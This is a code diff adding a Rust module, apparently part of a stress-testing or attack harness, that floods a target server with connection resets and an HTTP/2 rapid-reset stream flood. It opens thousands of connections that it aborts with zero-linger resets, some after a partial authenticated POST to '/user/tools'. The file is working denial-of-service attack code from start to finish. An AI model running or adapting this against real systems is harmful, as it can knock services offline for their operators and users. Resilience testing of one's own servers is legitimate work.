@@ -1,0 +1,56 @@
+//! Resets: of connections at once or amid a request, and of streams of HTTP/2.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use tokio::io::AsyncWriteExt;
+use tokio::task::JoinSet;
+
+use super::streams::{Asked, rapid_resets};
+use crate::client::{address, connect, head};
+use crate::target::Target;
+use crate::{Future, Strike};
+
+/// Connections that are reset, by so many clients.
+const RESETS: u32 = 2_000;
+const AT_ONCE: u32 = 8;
+/// How long a request goes on before.
+const PAUSE: Duration = Duration::from_millis(10);
+/// Streams a second of a connection, and connections.
+const STREAMS_A_SECOND: u32 = 500;
+const CONNECTIONS: u16 = 2;
+
+/// Resets by one account.
+pub fn prepare(target: Arc<Target>) -> Future<Result<Strike, String>> {
+    Box::pin(async move {
+        let (_, key) = target.account().await?;
+        Ok(Box::pin(async move {
+            let mut tasks = JoinSet::new();
+            for _ in 0..AT_ONCE {
+                let (to, head) = (target.address, head("POST", "/user/tools", &key, "application/json", 1_000));
+                tasks.spawn(async move {
+                    for number in 0..RESETS / AT_ONCE {
+                        if let Ok(mut stream) = connect(to, address(1)).await {
+                            if number % 4 == 0 {
+                                // An end of the server's is as good.
+                                let _ = stream.write_all(head.as_bytes()).await;
+                                tokio::time::sleep(PAUSE).await;
+                            }
+                            // Closed with a reset instead of an end: before the server has accepted it, mostly.
+                            let _ = stream.set_zero_linger();
+                        }
+                    }
+                    std::future::pending().await
+                });
+            }
+            for number in 0..CONNECTIONS {
+                let (to, key) = (target.address, key.clone());
+                tasks.spawn(async move {
+                    let asked = Asked { path: "/user/tools", token: &key, bytes: 1_000 };
+                    rapid_resets(to, address(5_000 + number), asked, STREAMS_A_SECOND).await;
+                });
+            }
+            while tasks.join_next().await.is_some() {}
+        }) as Strike)
+    })
+}
